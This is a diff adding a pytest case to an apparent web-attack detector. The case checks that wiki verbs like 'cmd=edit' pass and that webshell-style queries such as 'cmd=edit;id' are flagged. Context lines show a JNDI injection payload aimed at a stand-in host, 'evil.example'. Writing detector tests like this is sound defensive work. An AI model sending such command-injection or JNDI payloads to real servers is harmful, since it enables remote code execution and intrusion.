@@ -114,6 +114,22 @@ def test_what_a_family_is_not_shown_by(path: str, is_shown: bool) -> None:
 
 
 @pytest.mark.parametrize(
+    ("query", "is_shown"),
+    [
+        ("cmd=edit&page=FrontPage", False),
+        ("cmd=read&page=%A5%DA%A1%BC%A5%B8", False),
+        ("cmd=dir", True),
+        ("cmd=edit;id", True),
+        ("cmd=edit/*&cmd=x", True),
+    ],
+)
+def test_a_verb_of_an_application_is_no_command(query: str, is_shown: bool) -> None:
+    """Wikis and boards have `cmd=edit`; with anything behind it, it is what a shell is sent."""
+    families = {hit.family for hit in hits_in(Place.QUERY, query)}
+    assert ("webshell-access" in families) == is_shown
+
+
+@pytest.mark.parametrize(
     ("text", "is_attack"),
     [
         ("${jndi:ldap://evil.example/a}", True),
